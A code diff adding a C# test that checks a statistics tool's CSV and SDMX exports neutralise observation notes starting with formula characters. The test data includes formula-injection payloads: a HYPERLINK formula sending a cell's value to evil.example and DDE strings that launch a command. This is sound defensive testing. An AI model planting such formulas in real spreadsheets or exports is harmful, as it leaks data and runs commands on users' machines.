@@ -88,6 +88,42 @@ public class CliQueryTests
     }
 
     [Fact]
+    public async Task Notes_a_spreadsheet_would_run_come_out_neutralised_in_both_formats_and_read_back_to_the_submitted_text()
+    {
+        await using var node = await TestNode.StartAsync("BLZ");
+        string[] notes =
+        [
+            "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Fuente: CONARE\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-1+1", "\tx", "'quoted by the State",
+        ];
+        var submitted = notes.Select((note, i) =>
+        {
+            var o = Refugees(period: $"{2015 + i}", value: 10 + i);
+            o.Note = note;
+            return o;
+        }).ToArray();
+        await node.Observations.SubmitObservationsAsync(Submit(submitted));
+        Assert.Equal(notes.Order(StringComparer.Ordinal), (await node.QueryAsync()).Select(s => s.Observation.Note).Order(StringComparer.Ordinal)); // stored as sent
+        var file = Path.Combine(node.Folder, "formulas.csv");
+
+        var csv = await RunAsync(["query", .. node.CliArgs, "--format", "csv", "--out", file]);
+        var sdmx = await RunAsync(["query", .. node.CliArgs, "--format", "sdmx", "--labels", "es"]);
+
+        Assert.True(csv.Code == CliApp.Ok, csv.Error + csv.Output);
+        Assert.True(sdmx.Code == CliApp.Ok, sdmx.Error);
+        foreach (var export in new[] { await File.ReadAllTextAsync(file), sdmx.Output })
+        {
+            foreach (var note in notes)
+            {
+                // The note is the last cell of a row in both formats: a quote before it, then RFC 4180 quoting where needed.
+                Assert.Contains("," + MirpsExchange.Catalogue.Csv.ObservationCsv.Quote("'" + note) + "\r\n", export);
+                Assert.DoesNotContain("," + MirpsExchange.Catalogue.Csv.ObservationCsv.Quote(note) + "\r\n", export);
+            }
+            Assert.Equal(Sorted(submitted.Select(ExportRow.From)), Sorted(ExportReader.Read(export)));
+        }
+    }
+
+    [Fact]
     public async Task As_of_a_time_before_a_revision_returns_the_old_value()
     {
         await using var node = await TestNode.StartAsync("BLZ");
